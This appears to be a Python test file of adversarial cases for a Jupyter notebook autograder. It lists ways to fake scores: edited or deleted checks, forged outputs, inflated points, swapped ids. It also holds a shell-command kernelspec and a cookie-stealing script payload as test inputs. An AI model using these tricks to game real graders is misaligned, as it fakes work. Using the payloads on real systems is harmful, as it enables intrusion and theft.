"""Attacks by what stands beside the code: tags, ids, points, types and places of cells."""

import copy

from autograder.proof.attacks import FULL, attack, cell_of, checks_of, honest, unsolved, with_cell

IGNORED = "is ignored"


@attack("tags every check skip-execution, so that it leaves no output", "the tags are ignored and named", 0, "skip-execution")
def skip_execution(_folder):
    notebook = unsolved()
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution"]
    return notebook


@attack("tags every cell with other tags that tools obey", "the tags are ignored and named", FULL, "The tag 'raises-exception'")
def other_tags(_folder):
    notebook = honest()
    for cell in notebook.cells:
        cell.metadata["tags"] = ["raises-exception", "remove-cell", "parameters", "<script>alert(1)</script>"]
    return notebook


@attack("replaces every check by print(100)", "the original checks are used", 0, "was changed; the original is used")
def checks_edited(_folder):
    notebook = unsolved()
    for cell in checks_of(notebook):
        cell.source = "print(100.0)\n100.0"
    return notebook


@attack("leaves nothing in the check cells, which nbgrader alone takes for full marks", "the original checks are used", 0, "the original is used")
def checks_emptied(_folder):
    notebook = unsolved()
    for cell in checks_of(notebook):
        cell.source = ""
    return notebook


@attack("prints NaN as the score of a check", "the original checks are used", 0, "the original is used")
def checks_print_nan(_folder):
    notebook = unsolved()
    for cell in checks_of(notebook):
        cell.source = "float('nan')"
    return notebook


@attack("deletes every check", "the checks are put back", 0, "was missing and has been put back")
def checks_deleted(_folder):
    notebook = unsolved()
    notebook.cells = [c for c in notebook.cells if not c.id.startswith("check-")]
    return notebook


@attack("deletes checks of solved tasks by accident", "the checks are put back, and the work counts", FULL, "has been put back")
def honest_checks_deleted(_folder):
    notebook = honest()
    notebook.cells = [c for c in notebook.cells if not c.id.startswith("check-")]
    return notebook


@attack("puts a second copy of every check, with output, in front of the first", "one of them counts, without its output", 0, "more than once")
def checks_duplicated(_folder):
    notebook = unsolved()
    copies = [copy.deepcopy(c) for c in checks_of(notebook)]
    for cell in copies:
        cell.outputs = [{"output_type": "execute_result", "data": {"text/plain": "100"}, "metadata": {}, "execution_count": 1}]
    notebook.cells = copies + notebook.cells
    return notebook


@attack("duplicates a solution: first a right one, then a wrong one under the same id", "the last complete definition counts, as in Python, and that is said", 21, "more than once; the last complete definition of rnn_step counts")
def solution_duplicated(_folder):
    notebook = honest()
    second = copy.deepcopy(cell_of(notebook, "exercise-rnn_step"))
    second.source = "def rnn_step(*args): return 0"
    notebook.cells.insert(notebook.cells.index(cell_of(notebook, "exercise-rnn_step")) + 1, second)
    return notebook


@attack("moves every check in front of its solution", "each is moved behind the solution it checks", FULL, "moved behind it")
def checks_moved(_folder):
    notebook = honest()
    checks = checks_of(notebook)
    notebook.cells = checks + [c for c in notebook.cells if c not in checks]
    return notebook


@attack("turns checks into Markdown", "they are read as code", 0, "it is read as code")
def checks_retyped(_folder):
    notebook = unsolved()
    for cell in checks_of(notebook):
        cell.cell_type = "markdown"
        del cell["outputs"], cell["execution_count"]
    return notebook


@attack("turns solved cells into raw text", "they are read as code", FULL, "it is read as code")
def solutions_retyped(_folder):
    notebook = honest()
    for cell in notebook.cells:
        if cell.id.startswith("exercise-"):
            cell.cell_type = "raw"
            del cell["outputs"], cell["execution_count"]
    return notebook


@attack("points the ids of all checks at the one task that is solved", "each check asks for its own task", 3, "recognised by id")
def checks_repointed(_folder):
    notebook = unsolved()
    cell_of(notebook, "exercise-split_weights").source = cell_of(honest(), "exercise-split_weights").source
    for cell in checks_of(notebook):
        cell.metadata.nbgrader.grade_id = "check-split-weights"
    return notebook


@attack("exchanges the ids of two checks", "each check asks for its own task", FULL)
def checks_exchanged(_folder):
    notebook = honest()
    one, other = checks_of(notebook)[:2]
    one.metadata.nbgrader.grade_id, other.metadata.nbgrader.grade_id = (
        other.metadata.nbgrader.grade_id,
        one.metadata.nbgrader.grade_id,
    )
    return notebook


@attack("sets the points of every check to a million", "the points are ours", 0, "A change of the setting 'points'")
def points_raised(_folder):
    notebook = unsolved()
    for cell in checks_of(notebook):
        cell.metadata.nbgrader.points = 10**6
    return notebook


@attack("sets points to NaN, text and negative numbers", "the points are ours", FULL, "A change of the setting 'points'")
def points_of_no_sense(_folder):
    notebook = honest()
    for cell, points in zip(checks_of(notebook), [float("nan"), "many", -3, None, [1]], strict=True):
        cell.metadata.nbgrader.points = points
    return notebook


@attack("changes the schema version, which stops a whole batch of nbgrader's", "the metadata are ours", FULL, "A change of the setting 'schema_version'")
def schema_version(_folder):
    notebook = honest()
    for cell in checks_of(notebook):
        cell.metadata.nbgrader.schema_version = 99
    return notebook


@attack("makes solutions locked and checks solutions", "the metadata are ours", 0, IGNORED)
def roles_exchanged(_folder):
    notebook = unsolved()
    for cell in checks_of(notebook):
        cell.metadata.nbgrader |= {"solution": True, "locked": False, "grade": True}
        cell.source = "100"
    return notebook


@attack("asks for a kernel of its own choice", "the kernel is ours", FULL)
def kernelspec(_folder):
    notebook = honest()
    notebook.metadata.kernelspec = {"name": "bash", "display_name": "Bash", "language": "bash", "argv": ["sh", "-c", "id"]}
    return notebook


@attack("takes a written answer's place for code that is run as a check", "a written answer is never run", 0)
def answer_as_code(_folder):
    notebook = unsolved()
    cell = cell_of(notebook, "written-padding")
    cell.cell_type, cell.source, cell.outputs, cell.execution_count = "code", "print(4.0)\n4.0", [], None
    return notebook


@attack("puts script and pictures from elsewhere into written answers", "the page shows them as text", FULL)
def script_in_an_answer(_folder):
    notebook = honest()
    cell_of(notebook, "written-padding").source = (
        "<script>fetch('http://127.0.0.1/' + document.cookie)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1))"
    )
    return notebook


@attack("claims the id of the set-up cell for a cell of its own, to change what the rest sees", "the set-up cell is ours", FULL, "the original is used")
def setup_claimed(_folder):
    notebook = honest()
    cell_of(notebook, "setup-cell").source = "def check(*args): return 100\nimport math as np"
    return notebook


@attack("names a thousand own cells after graded ones, with random ids", "own cells stay own cells", FULL)
def many_own_cells(_folder):
    notebook = honest()
    for k in range(300):
        with_cell(notebook, "pass").cells[2].metadata["nbgrader"] = {"grade_id": f"check-{k}", "grade": True, "points": 10}
    return notebook
